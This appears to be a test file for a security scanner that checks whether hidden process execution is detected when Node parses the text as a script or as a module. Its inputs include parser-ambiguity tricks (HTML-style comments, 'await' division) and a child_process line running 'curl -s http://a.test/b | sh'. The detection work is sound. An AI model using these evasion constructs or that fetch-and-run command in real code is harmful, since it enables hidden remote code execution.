// What a script and a module mean differently is read as Node reads it, whichever parser is asked first.
import { describe, expect, it } from 'vitest'
import { factsOfScript } from '../../../src/scanners/content/code-analysis.ts'

const RUN = "require('child_process').exec('id')"

function starts(text: string): boolean {
  return factsOfScript(text, false).facts.some(({ query }) => query === 'process')
}

describe('factsOfScript', () => {
  it.each([
    ['a script', `${RUN}\n`],
    ['a module', `import a from 'a'\nexport const b = ${RUN}\n`],
    ['a module that says so in its last line', `${RUN};let a=1;export{a};`],
    ['a module that awaits', `await ${RUN}\nexport {}\n`],
    ['a script that returns', `return ${RUN}\n`],
    ['a script with a first line for the shell', `#!/usr/bin/env node\n${RUN}\n`],
    [
      'an import inside a function, which only the forgiving parser reads',
      `function f() { import 'a' }\n${RUN}\n`,
    ],
    ['a private name that is not declared', `class A { b() { return this.#c } }\n${RUN}\n`],
    [
      'a comment as in HTML, behind a line that looks like a module',
      `/*\nimport a\n*/\nx <!--a[\`\n${RUN}\n//\`]\n`,
    ],
    [
      'a division by a name, behind a line that looks like a module',
      `/*\nimport a\n*/\nawait / ${RUN} / g\n`,
    ],
  ])('reads %s', (_, text) => {
    expect(starts(text)).toBe(true)
  })

  it.each([
    ['a module hides from scripts behind a comment as in HTML', `let x = 1, y = 2\nx <!--y; ${RUN}\n`],
    [
      'a module hides from scripts, with a division by a name for scripts',
      `globalThis.await = 1\nlet g = 1, x = 1, y = 1\nawait / 2 /g\nx <!--y; ${RUN}\n`,
    ],
    [
      'a script divides by a name that a module waits for',
      `globalThis.await = 1\nlet g = 1\nawait / ${RUN} / g\n`,
    ],
    ['a script runs and a module takes for text', `x <!--a[\`\n${RUN}\n//\`]\n`],
  ])('reads what %s', (_, text) => {
    expect(starts(text)).toBe(true)
  })

  it('tells a command once that both readings start', () => {
    expect(
      factsOfScript("x <!--y\nrequire('child_process').exec('curl -s http://a.test/b | sh')\n", false)
        .commands.length,
    ).toBe(1)
  })

  it('says that it could not read what no parser takes', () => {
    expect(factsOfScript('let let = {', false).facts).toEqual([{ query: 'unread', at: 0 }])
  })
})
